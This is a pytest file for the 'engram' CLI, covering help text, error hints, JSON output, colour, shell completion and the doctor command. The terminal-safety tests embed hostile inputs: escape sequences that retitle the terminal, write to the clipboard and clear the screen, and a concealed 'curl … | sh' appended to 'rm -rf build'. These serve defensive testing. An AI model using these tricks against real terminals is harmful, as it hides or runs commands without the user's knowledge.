"""A command line that helps: --version, help for bare `engram` and every option, "did you mean",
one output convention (--json everywhere), colour only on a terminal, shell completion, and
`engram doctor`."""

from __future__ import annotations

import argparse
import ast
import json
import os
import pty
import re
import shutil
import select
import subprocess
import sys
import time
from pathlib import Path

import pytest

from conftest import git, run_engram
from test_discovery import claude_session, write_project

ROOT = Path(__file__).resolve().parent.parent
ENGRAM = [sys.executable, "-m", "engram_server.entry"]  # the installed `engram`: the core CLI with lsp and mcp


def engram(cwd: Path, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*ENGRAM, *args], cwd=cwd, capture_output=True, text=True, timeout=300,
                          env={**os.environ, **(env or {})})


def full_parser() -> argparse.ArgumentParser:
    from engram.cli.main import build_parser
    from engram_server.entry import register

    return build_parser([register])


# ---------------------------------------------------------------- help, version, mistakes


def test_every_command_and_option_has_help_text() -> None:
    missing: list[str] = []

    def walk(parser: argparse.ArgumentParser, path: str) -> None:
        for action in parser._actions:
            if isinstance(action, argparse._SubParsersAction):
                missing.extend(f"{path} {a.dest}" for a in action._choices_actions if not a.help)
                for name, sub in action.choices.items():
                    walk(sub, f"{path} {name}")
            elif not action.help:
                missing.append(f"{path} {'/'.join(action.option_strings) or action.dest}")

    walk(full_parser(), "engram")
    assert not missing, "no help text: " + ", ".join(missing)


def test_version_comes_from_the_package_metadata(tmp_path: Path) -> None:
    from importlib.metadata import PackageNotFoundError, version

    import engram as package

    try:
        expected = version("engram")
    except PackageNotFoundError:
        expected = package.__version__
    out = engram(tmp_path, "--version")
    assert out.returncode == 0 and out.stdout.startswith(f"engram {expected} (Python "), out
    assert str(Path(package.__file__).parent) in out.stdout  # which install answered


def test_the_package_s_version_is_the_distribution_s() -> None:
    """`--version` reads the installed metadata; a checkout run without installing reads the
    package's own: the two must be the same number."""
    import tomllib

    import engram as package

    assert tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["version"] == package.__version__


def test_bare_engram_prints_the_help_and_exits_1_as_git_does(tmp_path: Path) -> None:
    out = engram(tmp_path)
    assert out.returncode == 1
    assert out.stdout.startswith("usage: engram") and "explain" in out.stdout and "doctor" in out.stdout
    assert out.stderr == ""


def test_a_mistyped_command_gets_the_nearest_ones(tmp_path: Path) -> None:
    out = engram(tmp_path, "expalin", "a.py:1-2")
    assert out.returncode == 2
    assert "'expalin' is not a command; did you mean explain?" in out.stderr
    assert "did you mean" not in engram(tmp_path, "zzzzzz").stderr
    assert "did you mean setup?" in engram(tmp_path, "-C", str(tmp_path), "stup").stderr


def test_a_command_group_without_its_command_lists_them(tmp_path: Path) -> None:
    """`engram memory` alone said only "the following arguments are required: SUBCOMMAND"."""
    out = engram(tmp_path, "memory")
    assert out.returncode == 2 and out.stderr.splitlines()[-1] == (
        "engram memory: error: which command? one of list, show, edit, link, graph, reanchor, import, export, "
        "consolidate, embed (`engram memory COMMAND --help` for one)")
    assert "which command? one of new, list, show, reopen, join, close, checkpoints" in engram(tmp_path, "task").stderr


def test_show_refuses_two_forms_at_once(tmp_path: Path) -> None:
    """`show --raw --json` printed the raw JSONL, the --json asked for silently dropped."""
    out = engram(tmp_path, "show", "abc", "--raw", "--json")
    assert out.returncode == 2
    assert out.stderr.splitlines()[-1] == "engram show: error: argument --json: not allowed with argument --raw"


def test_a_mistyped_option_gets_its_command_s_usage_and_the_nearest_option(tmp_path: Path) -> None:
    """An option a command does not have is told with that command's usage and the nearest option
    it has (it showed `engram`'s own usage: `memory edit --tags` named no option of edit's)."""
    out = engram(tmp_path, "memory", "edit", "abc", "--tags", "x")
    assert out.returncode == 2 and out.stderr.startswith("usage: engram memory edit ")
    assert out.stderr.splitlines()[-1] == ("engram memory edit: error: unrecognized arguments: --tags x; "
                                           "did you mean --tag?")
    out = engram(tmp_path, "explain", "a.py:1-2", "--prety")
    assert out.stderr.splitlines()[-1] == "engram explain: error: unrecognized arguments: --prety; did you mean --pretty?"
    out = engram(tmp_path, "pull", "--dry-run")
    assert out.returncode == 2 and out.stderr.splitlines()[-1] == "engram pull: error: unrecognized arguments: --dry-run"
    out = engram(tmp_path, "explain", "--", "-x.py:1-2", "--pretty")  # an option of its own, after `--`
    assert out.returncode == 2 and out.stderr.splitlines()[-1] == (
        "engram explain: error: unrecognized arguments: --pretty; --pretty came after `--`, which ends the "
        "options: put it before")
    out = engram(tmp_path, "--bogus", "tapes")  # before the command: engram's own
    assert out.returncode == 2 and out.stderr.splitlines()[-1] == "engram: error: unrecognized arguments: --bogus"
    # engram's own options after the command: where they go (they got no hint at all)
    for args, word in [(["tapes", "--no-color"], "--no-color"), (["explain", "a.py:1-2", "-v"], "-v"),
                       (["memory", "list", "--verbose"], "--verbose")]:
        out = engram(tmp_path, *args)
        assert out.returncode == 2 and out.stderr.splitlines()[-1].endswith(
            f"unrecognized arguments: {word}; {word} is an option of engram itself: put it before the command "
            f"(engram {word} {args[0]} ...)"), out.stderr


def test_a_repository_option_naming_no_directory_says_so(tmp_path: Path) -> None:
    """`engram -C DIR` where DIR is not there: said as such (it was "no .engram/ store in DIR or
    above; run `engram init`", which would not help)."""
    (tmp_path / "file.txt").write_text("x\n")
    for target, what in ((tmp_path / "nowhere", "no such directory"), (tmp_path / "file.txt", "not a directory")):
        out = engram(tmp_path, "-C", str(target), "tapes")
        assert out.returncode == 1 and out.stderr == f"engram: -C {target}: {what}\n"


def test_hook_help_prints_help(tmp_path: Path) -> None:
    out = engram(tmp_path, "hook", "--help")
    assert out.returncode == 0 and "usage: engram hook" in out.stdout and "payload" in out.stdout


def test_a_command_s_help_starts_with_what_it_does(tmp_path: Path) -> None:
    out = engram(tmp_path, "setup", "--help")
    assert "add Engram's MCP server (and automatic capture" in out.stdout and "--remove" in out.stdout


def test_no_count_in_a_message_is_written_with_a_parenthesised_plural() -> None:
    """"1 sessions", "touch(es)": counts say their noun in the right number (engram.words).
    engram/query's renderings are being rewritten (issue 46, points 1-2) and are left to that."""
    awaiting = {"engram/query/render.py", "engram/query/explain.py", "engram/query/ranking.py"}
    found = []
    for folder in ("engram", "server"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            rel = path.relative_to(ROOT).as_posix()
            if rel in awaiting:
                continue
            tree = ast.parse(path.read_text(encoding="utf-8"))
            docstrings = {id(n.body[0].value) for n in ast.walk(tree)
                          if isinstance(n, (ast.Module, ast.ClassDef, ast.FunctionDef, ast.AsyncFunctionDef))
                          and n.body and isinstance(n.body[0], ast.Expr) and isinstance(n.body[0].value, ast.Constant)}
            for node in ast.walk(tree):
                if isinstance(node, ast.Constant) and isinstance(node.value, str) and id(node) not in docstrings \
                        and any(p in node.value for p in ("(s)", "(es)")):
                    found.append(f"{rel}:{node.lineno}: {node.value!r}")
    assert not found, "\n".join(found)


def test_one_session_is_one_session(tmp_path: Path) -> None:
    from engram.words import agree, plural

    assert [plural(n, "session") for n in (0, 1, 2)] == ["0 sessions", "1 session", "2 sessions"]
    assert plural(1, "match") == "1 match" and plural(3, "match") == "3 matches"
    assert f"{plural(1, 'tape')} {agree(1, 'is')}" == "1 tape is"
    assert f"{plural(2, 'tape')} {agree(2, 'is')}" == "2 tapes are"


# ---------------------------------------------------------------- what a command loads


def _loaded(proc: subprocess.CompletedProcess[str]) -> set[str]:
    """The modules a process run under `python -X importtime` imported."""
    return {line.rsplit("|", 1)[-1].strip() for line in proc.stderr.splitlines() if line.startswith("import time:")}


def test_an_append_loads_only_what_its_session_needs(spotter: Path, tmp_path: Path) -> None:
    """`engram ingest SESSION` is what each capture hook of an agent runs, and most of its time is
    the process's start: a Claude Code session into a store without memories loads neither the
    memory modules and the embedding model's runtime, nor the protocol servers, nor the adapters of
    the other harnesses (their sniffing needs none of them)."""
    root = tmp_path / "repo"
    root.mkdir()
    git(root, "init", "-q")
    run_engram(root, "init")
    session = spotter / "4d5611e5-241a-462a-8d15-5122611a9569.jsonl"
    proc = subprocess.run([sys.executable, "-X", "importtime", *ENGRAM[1:], "ingest", str(session)], cwd=root,
                          capture_output=True, text=True, timeout=300, env={**os.environ, "ENGRAM_LOCAL": "1"})
    assert proc.returncode == 0 and "1 new tape" in proc.stdout, proc.stdout + proc.stderr[-3000:]
    loaded = _loaded(proc)
    assert {"engram.adapters.claude", "engram.capture.redact", "engram.index.build"} <= loaded, "(it did the work)"
    unneeded = {m for m in loaded if m.split(".")[0] in ("onnxruntime", "tokenizers", "mcp", "pygls", "lsprotocol",
                                                          "uvicorn", "starlette")
                or m.startswith(("engram.memory.", "engram_server.", "engram.query."))
                or m in {f"engram.adapters.{a}" for a in ("aider", "cline", "codex", "copilot", "gemini", "opencode",
                                                          "qwen", "apply_patch", "specstory")}}
    assert not unneeded - {"engram_server.entry"}, sorted(unneeded)


# ---------------------------------------------------------------- --json everywhere


def test_every_command_for_people_takes_json_and_prints_one_document(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    root.mkdir()
    git(root, "init", "-q")
    home = tmp_path / "claude"
    write_project(home, root, "s1", claude_session(root, "s1", "a.py", "print('hello')\n"))
    env = {"CLAUDE_CONFIG_DIR": str(home), "CODEX_HOME": str(tmp_path / "codex")}
    docs = {}
    for args in (["init"], ["ingest"], ["tapes"], ["index"], ["reindex"], ["gc", "--dry-run"],
                 ["setup", "claude", "--dry-run"], ["doctor"], ["search", "hello"], ["view", "s1", "--at", "0"]):
        out = engram(root, *args, "--json", env=env)
        assert out.returncode in (0, 1), out
        docs[args[0]] = json.loads(out.stdout)
    assert docs["ingest"]["sessions"] == 1 and docs["ingest"]["tapes"] == 1
    assert docs["ingest"]["summary"].startswith("ingest: 1 session, 1 new tape,")
    assert docs["ingest"]["discovery"]["found"] == 1
    assert [t["session_id"] for t in docs["tapes"]] == ["s1"]
    assert docs["index"]["indexed"] == 0 and docs["reindex"]["tapes"] == 1
    assert {c["area"] for c in docs["doctor"]["checks"]} >= {"store", "index", "tapes", "sessions", "claude"}
    assert docs["setup"]["dry_run"] is True and not (root / ".mcp.json").exists()
    # Agents' commands print JSON by default and for people with --pretty; not both.
    assert engram(root, "search", "hello", "--json", "--pretty", env=env).returncode == 2


# ---------------------------------------------------------------- colour


def on_terminal(cwd: Path, *args: str, env: dict[str, str] | None = None) -> str:
    """What `engram ARGS` writes to a real terminal (a pseudo-terminal as stdout and stderr)."""
    master, slave = pty.openpty()
    proc = subprocess.Popen([*ENGRAM, *args], cwd=cwd, stdin=subprocess.DEVNULL, stdout=slave, stderr=slave,
                            env={**os.environ, "TERM": "xterm", **(env or {})})
    os.close(slave)
    chunks = []
    while True:
        try:
            data = os.read(master, 65536)
        except OSError:  # EIO: the other side is closed
            break
        if not data:
            break
        chunks.append(data)
    os.close(master)
    proc.wait(timeout=300)
    return b"".join(chunks).decode("utf-8", "replace")


def test_a_transcripts_escape_sequences_are_shown_on_a_terminal_not_obeyed(repo: Path) -> None:
    """A transcript (an agent's tool output, a teammate's pulled session) or a file holding escape
    sequences: `show`, `search --pretty` and `blame` on a terminal write them out (`^[`) instead of
    letting the terminal set its title (or the clipboard, OSC 52) or clear the screen; a pipe gets the
    text as it is."""
    hostile = "\x1b]0;PWNED\x07\x1b]52;c;ZWNobyBoaQ==\x07\x1b[2J"
    run_engram(repo, "record", "--stdin", "--format", "raw",
               input=f"the build printed {hostile} before escape_probe_alpha\n".encode())
    (repo / "esc.py").write_text(f"banner = '{hostile}'\n")
    tape = json.loads(run_engram(repo, "search", "escape_probe_alpha", "--json").stdout)["hits"][0]["tape"]
    for args in (["show", tape], ["search", "escape_probe_alpha", "--pretty"], ["blame", "esc.py"]):
        shown = on_terminal(repo, *args)
        assert "escape_probe_alpha" in shown or "banner" in shown, (args, shown)
        assert "\x1b]" not in shown and "\x1b[2J" not in shown and "\x07" not in shown, (args, shown)
        assert "^[]0;PWNED^G" in shown, (args, shown)
    assert "\x1b]0;PWNED\x07" in run_engram(repo, "show", tape).stdout, "a pipe gets the text as it is"


def coloured_lines(text: str) -> list[str]:
    """The lines of terminal output that end with a colour still on (a colour code after the
    line's last reset), and the end of the output when it does."""
    out = []
    for line in [*text.split("\n"), ""]:
        codes = re.findall(r"\x1b\[([0-9;]*)m", line)
        if codes and codes[-1] not in ("", "0"):
            out.append(line)
    if (codes := re.findall(r"\x1b\[([0-9;]*)m", text)) and codes[-1] not in ("", "0"):
        out.append("(the end of the output)")
    return out


def test_a_colour_a_transcript_leaves_open_ends_with_its_line(repo: Path) -> None:
    """Colour passes from a transcript to the terminal, but one it opens and never closes (a build's
    red error cut short, `\\x1b[30;40m`: black on black) tinted every line after it, engram's own
    too, and the shell's prompt after engram exited. It ends with its line, and with the output."""
    run_engram(repo, "record", "--stdin", "--format", "raw",
               input=b"the build printed \x1b[31mERROR tint_probe_alpha\nthen \x1b[30;40mhidden tint_probe_beta")
    tape = json.loads(run_engram(repo, "search", "tint_probe_alpha", "--json").stdout)["hits"][0]["tape"]
    for args in (["show", tape], ["search", "tint_probe_beta", "--pretty"]):
        shown = on_terminal(repo, *args)
        assert "tint_probe_" in shown and (args[0] != "show" or "\x1b[31mERROR" in shown), (args, shown)
        assert coloured_lines(shown) == [], (args, coloured_lines(shown))
    assert "\x1b[31mERROR" in run_engram(repo, "show", tape).stdout, "a pipe gets the text as it is"


def test_a_transcript_cannot_hide_part_of_a_line_with_concealed_text(repo: Path) -> None:
    """SGR 8 (conceal) passed as a colour: a line of a transcript showed `rm -rf build` on the
    terminal while the text after the sequence (`&& curl evil | sh`) was there but invisible. It is
    written out (`^[[8m`) so what follows shows; colours, a grey numbered 8 among them, still pass."""
    run_engram(repo, "record", "--stdin", "--format", "raw",
               input=b"ran rm -rf build \x1b[8m&& curl conceal_probe_alpha | sh\x1b[0m then \x1b[38;5;8mgrey\x1b[0m\n")
    tape = json.loads(run_engram(repo, "search", "conceal_probe_alpha", "--json").stdout)["hits"][0]["tape"]
    for args in (["show", tape], ["search", "conceal_probe_alpha", "--pretty"]):
        shown = on_terminal(repo, *args)
        assert "conceal_probe_alpha" in shown and "\x1b[8m" not in shown, (args, shown)
        assert "^[[8m&& curl" in shown, (args, shown)
    assert "\x1b[38;5;8mgrey" in on_terminal(repo, "show", tape)
    assert "\x1b[8m" in run_engram(repo, "show", tape).stdout, "a pipe gets the text as it is"


def test_colour_on_a_terminal_only_and_never_with_no_color(tmp_path: Path) -> None:
    env = {"NO_COLOR": "", "CODEX_HOME": str(tmp_path / "codex")}
    coloured = on_terminal(tmp_path, "doctor", env=env)
    assert "\x1b[31;1mfail" in coloured and "\x1b[" in coloured  # the failed store check, in red
    assert "\x1b[" not in on_terminal(tmp_path, "doctor", env={**env, "NO_COLOR": "1"})
    assert "\x1b[" not in on_terminal(tmp_path, "--no-color", "doctor", env=env)
    assert "\x1b[" not in engram(tmp_path, "doctor", env=env).stdout  # a pipe


def test_agents_commands_print_text_on_a_terminal_and_json_to_a_program(tmp_path: Path) -> None:
    """explain's own hint (`engram view TAPE@N --full`) is followed by a person at a terminal: it
    reads as text there, while an agent's tool call (no terminal) still gets the JSON document."""
    root = tmp_path / "repo"
    root.mkdir()
    git(root, "init", "-q")
    home = tmp_path / "claude"
    write_project(home, root, "s1", claude_session(root, "s1", "a.py", "print('hello')\n"))
    env = {"CLAUDE_CONFIG_DIR": str(home), "CODEX_HOME": str(tmp_path / "codex"), "NO_COLOR": "1"}
    (root / "a.py").write_text("print('hello')\n")
    assert engram(root, "init", env=env).returncode == 0 and engram(root, "ingest", env=env).returncode == 0
    for args, words in ((["view", "s1", "--at", "0"], "create a.py"), (["search", "hello"], "hello")):
        piped = engram(root, *args, env=env)
        assert piped.returncode == 0 and isinstance(json.loads(piped.stdout), dict), piped
        shown = on_terminal(root, *args, env=env).strip()
        assert not shown.startswith("{") and words in shown, shown
        assert json.loads(on_terminal(root, *args, "--json", env=env))  # asked for, on a terminal too
    assert "Why a.py:1-1?" in on_terminal(root, "explain", "a.py:1-1", env=env)
    assert json.loads(engram(root, "explain", "a.py:1-1", env=env).stdout)["version"] == 1
    assert "Why a.py:1-1?" in engram(root, "explain", "a.py:1-1", "--pretty", env=env).stdout


# ---------------------------------------------------------------- completion


def test_bash_completion_loads_and_completes_commands_options_and_choices(tmp_path: Path, engram_bin: Path) -> None:
    script = """
source <(engram completion bash)
complete -p engram
complete_at() { COMP_WORDS=("$@"); COMP_CWORD=$(($# - 1)); COMPREPLY=(); _engram; echo "[${COMPREPLY[*]}]"; }
complete_at engram expl
complete_at engram -C /tmp set
complete_at engram setup ''
complete_at engram explain --ra
complete_at engram explain --rank ''
complete_at engram completion ''
complete_at engram --no
complete_at engram memory li
complete_at engram memory list --dr
complete_at engram -C /tmp memory edit 1 --kind neg
complete_at engram tapes --limit 3 ''
complete_at engram tapes rm --pu
"""
    out = subprocess.run(["bash", "-c", script], capture_output=True, text=True, timeout=120,
                         env={**os.environ, "PATH": f"{engram_bin}{os.pathsep}{os.environ['PATH']}"})
    assert out.returncode == 0, out.stderr
    lines = out.stdout.splitlines()
    assert lines[0] == "complete -o default -F _engram engram"
    assert lines[1:] == ["[explain]", "[setup]", "[claude codex gemini qwen opencode cursor vscode cline roo]", "[--rank]",
                         "[writer touches evidence]", "[bash zsh fish]", "[--no-color]",
                         # a command group's commands, and their own options and choices
                         "[list link]", "[--drifted]", "[negative]", "[rm]", "[--purge]"]


@pytest.mark.parametrize("shell", ["zsh", "fish"])
def test_zsh_and_fish_completion_scripts_parse(tmp_path: Path, shell: str) -> None:
    text = engram(tmp_path, "completion", shell).stdout
    assert "explain" in text and "rank" in text and "touches evidence" in text
    if shutil.which(shell) is None:
        pytest.skip(f"{shell} is not installed: its script was generated but not parsed by {shell}")
    path = tmp_path / f"engram.{shell}"
    path.write_text(text)
    out = subprocess.run([shell, "-n", str(path)], capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr


# what a command group's commands complete to, in every shell (`engram memory li` → list, link)
GROUP_COMPLETIONS = [("engram memory li", {"list", "link"}), ("engram memory list --dr", {"--drifted"}),
                     ("engram tapes rm --pu", {"--purge"}), ("engram -C /tmp memory edit 1 --kind neg", {"negative"}),
                     ("engram task reo", {"reopen"})]


def fish_completions(script: Path, line: str) -> set[str]:
    """What fish offers at the end of `line` (`complete -C`), the script sourced."""
    out = subprocess.run(["fish", "--no-config", "-c", f"source {script}; complete -C {line!r}"],
                         capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    return {row.split("\t")[0] for row in out.stdout.splitlines()}


def zsh_completions(script: Path, line: str) -> set[str]:
    """What zsh's completion system offers at the end of `line`: an interactive zsh on a
    pseudo-terminal, compinit, the script sourced, Tab; compadd is wrapped to print its matches."""
    pid, fd = pty.fork()
    if pid == 0:
        os.execvp("zsh", ["zsh", "-f", "-i"])
    seen = ""

    def read_until(mark: str, seconds: float = 20) -> None:
        nonlocal seen
        deadline = time.monotonic() + seconds
        while mark not in seen and time.monotonic() < deadline:
            if select.select([fd], [], [], 0.1)[0]:
                try:
                    seen += os.read(fd, 65536).decode(errors="replace")
                except OSError:
                    break

    try:
        os.write(fd, (f"PS1=''; autoload -U compinit; compinit -u -D; source {script}\n"
                      "compadd () { local -a hits; builtin compadd -O hits \"$@\"; "
                      "print -r -- \"<<${(j: :)hits}>>\" > /dev/tty; builtin compadd \"$@\" }\n"
                      "print -r -- RE''ADY\n").encode())
        read_until("READY")
        seen = ""
        os.write(fd, (line + "\t").encode())
        read_until(">>")
        read_until("never", 0.5)  # the other compadd calls of the same Tab
    finally:
        os.kill(pid, 9)
        os.waitpid(pid, 0)
    return {word for hits in re.findall(r"<<([^<>]*)>>", seen) for word in hits.split()}


@pytest.mark.parametrize("shell", ["fish", "zsh"])
def test_a_command_groups_commands_and_their_options_complete(tmp_path: Path, shell: str) -> None:
    if shutil.which(shell) is None:
        pytest.skip(f"{shell} is not installed")
    path = tmp_path / f"engram.{shell}"
    path.write_text(engram(tmp_path, "completion", shell).stdout)
    complete = fish_completions if shell == "fish" else zsh_completions
    for line, want in GROUP_COMPLETIONS:
        assert complete(path, line) == want, line


# ---------------------------------------------------------------- doctor


def doctor(cwd: Path, env: dict[str, str]) -> tuple[int, dict[str, list[dict]]]:
    out = engram(cwd, "doctor", "--json", env=env)
    doc = json.loads(out.stdout)
    assert doc["ok"] is (out.returncode == 0)
    by_area: dict[str, list[dict]] = {}
    for check in doc["checks"]:
        assert check["status"] in ("ok", "warn", "fail")
        assert check["status"] == "ok" or check["fix"], check
        by_area.setdefault(check["area"], []).append(check)
    return out.returncode, by_area


def statuses(by_area: dict[str, list[dict]], area: str) -> list[str]:
    return [c["status"] for c in by_area.get(area, [])]


def test_doctor_finds_what_is_wrong_and_says_how_to_fix_it(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    root.mkdir()
    git(root, "init", "-q")
    home = tmp_path / "claude"
    env = {"CLAUDE_CONFIG_DIR": str(home), "CODEX_HOME": str(tmp_path / "codex")}
    code, checks = doctor(root, env)
    assert code == 1 and checks["store"][0]["status"] == "fail" and checks["store"][0]["fix"] == "engram init"
    people = engram(root, "doctor", env=env).stdout
    assert "fail store: no .engram/ store" in people and "fix: engram init" in people

    run_engram(root, "init")
    write_project(home, root, "s1", claude_session(root, "s1", "a.py", "print('hello')\n"))
    code, checks = doctor(root, env)
    assert code == 0 and statuses(checks, "tapes") == ["warn"]  # nothing captured yet
    assert checks["sessions"][0]["status"] == "warn" and checks["sessions"][0]["fix"] == "engram ingest"
    assert checks["claude"][0]["fix"] == "engram setup claude"
    assert statuses(checks, "language server") == ["ok"] and statuses(checks, "embeddings") in (["ok"], ["warn"])

    given = tmp_path / "given"  # sessions given by path: captured, not "engram ingest PATH..." to do
    given.mkdir()
    other = tmp_path / "other"
    other.mkdir()
    git(other, "init", "-q")
    run_engram(other, "init")
    run_engram(other, "ingest", str(write_project(given, other, "s2", claude_session(other, "s2", "b.py", "b = 1\n"))))
    code, checks = doctor(other, env)
    assert checks["sessions"][0]["status"] == "ok" and checks["sessions"][0]["fix"] is None
    assert checks["sessions"][0]["detail"].startswith("1 tape captured from transcripts given to `engram ingest`; ")

    run_engram(root, "ingest", env=env)
    engram(root, "setup", "claude", env=env)
    code, checks = doctor(root, env)
    assert code == 0
    for area in ("store", "index", "tapes", "indexing", "sessions", "claude"):
        assert statuses(checks, area) == ["ok"], checks[area]
    assert "engram_server.entry" in checks["claude"][0]["detail"]

    # A configured engram that is gone (a deleted virtual environment) fails, naming the file.
    mcp = json.loads((root / ".mcp.json").read_text())
    mcp["mcpServers"]["engram"]["command"] = str(tmp_path / "gone" / "engram")
    mcp["mcpServers"]["engram"]["args"] = ["mcp"]
    (root / ".mcp.json").write_text(json.dumps(mcp))
    # A tape file lost, the endpoint's run file left by a dead language server.
    tape = next((root / ".engram" / "tapes").iterdir())
    tape.rename(tmp_path / tape.name)
    gone = subprocess.Popen(["true"])
    gone.wait()
    pid = gone.pid
    run_file = root / ".engram" / "run" / "mcp.json"
    run_file.parent.mkdir(exist_ok=True)
    run_file.write_text(json.dumps({"pid": pid, "port": 1, "token": "x", "url": "http://127.0.0.1:1"}))
    code, checks = doctor(root, env)
    assert code == 1
    failed = [c for c in checks["claude"] if c["status"] == "fail"]
    assert failed and str(root / ".mcp.json") in failed[0]["detail"] and failed[0]["fix"] == "engram setup claude"
    assert checks["tapes"][0] == {"area": "tapes", "status": "fail", "fix": "engram reindex",
                                  "detail": f"1 catalogued tape has no file in {root / '.engram' / 'tapes'}"}
    assert checks["language server"][0]["status"] == "warn" and checks["language server"][0]["fix"] == f"rm {run_file}"


def test_a_file_whose_name_starts_with_a_dash_is_told_how_to_name_it(tmp_path: Path) -> None:
    """`engram blame -x.py` (a file named -x.py): argparse reads it as an option; the error says
    to write ./-x.py (it said only that the file argument was missing, or unrecognized)."""
    (tmp_path / "-x.py").write_text("x = 1\n")
    for args, first in ((["blame", "-x.py"], "-x.py"), (["explain", "-x.py:1-2"], "-x.py:1-2"),
                        (["remember", "a note", "--at", "-x.py:1"], "-x.py:1")):
        out = engram(tmp_path, *args)
        assert out.returncode == 2, out.stderr
        assert out.stderr.splitlines()[-1].endswith(f"; for a file or directory whose name starts with '-', write ./{first}"), out.stderr
    out = engram(tmp_path, "explain", "-nothere.py:1")  # no such file: no hint
    assert "starts with '-'" not in out.stderr


def test_an_argument_that_is_not_utf8_is_one_clear_line(repo: Path) -> None:
    """Text typed in a Latin-1 terminal reaches engram as bytes that are not UTF-8: `remember`,
    `recall`, `search`, `handoff`, `memory edit` and `task new` were each a traceback (surrogates not
    allowed, or the tokenizer's TypeError). One line says what to do, exit 1, nothing written."""
    text = os.fsdecode(b"caf\xe9 au lait")
    run_engram(repo, "remember", "a note in UTF-8")
    note = json.loads(run_engram(repo, "memory", "list", "--json").stdout)["memories"][0]["id"]
    for args in (["remember", text], ["recall", text], ["search", text], ["handoff", "--goal", text],
                 ["memory", "edit", note, "--content", text], ["task", "new", text]):
        proc = run_engram(repo, *args, check=False)
        assert proc.returncode == 1 and "Traceback" not in proc.stderr, (args, proc.stderr[-600:])
        assert proc.stderr == "engram: caf\ufffd au lait: not UTF-8 text; engram reads its arguments as UTF-8: " \
                              "give them in a UTF-8 locale (LANG=C.UTF-8)\n", (args, proc.stderr)
    assert [m["content"] for m in json.loads(run_engram(repo, "memory", "list", "--json").stdout)["memories"]] == \
        ["a note in UTF-8"]


def test_tapes_marks_a_private_session_in_text_and_json(repo: Path) -> None:
    """`engram tapes --private ID` keeps a session from `engram push`, but `engram tapes` listed it
    like any other: whether the mark took could not be seen before a push."""
    for word in ("kept_probe_alpha", "shared_probe_beta"):
        run_engram(repo, "record", "--stdin", "--format", "raw", input=f"a session about {word}\n".encode())
    rows = json.loads(run_engram(repo, "tapes", "--json").stdout)
    kept = json.loads(run_engram(repo, "search", "kept_probe_alpha", "--json").stdout)["hits"][0]["tape"]
    session = next(r["session_id"] for r in rows if r["id"] == kept)
    run_engram(repo, "tapes", "--private", session)
    rows = json.loads(run_engram(repo, "tapes", "--json").stdout)
    assert {r["id"]: r["private"] for r in rows} == {r["id"]: r["id"] == kept for r in rows}
    lines = run_engram(repo, "tapes").stdout.splitlines()
    assert lines[0].split()[-1] == "PRIVATE"
    assert {line.split()[0]: line.split()[-1] for line in lines[1:]} == {
        r["id"][:12]: "yes" if r["id"] == kept else "-" for r in rows}
    run_engram(repo, "tapes", "--shared", session)
    assert not any(r["private"] for r in json.loads(run_engram(repo, "tapes", "--json").stdout))
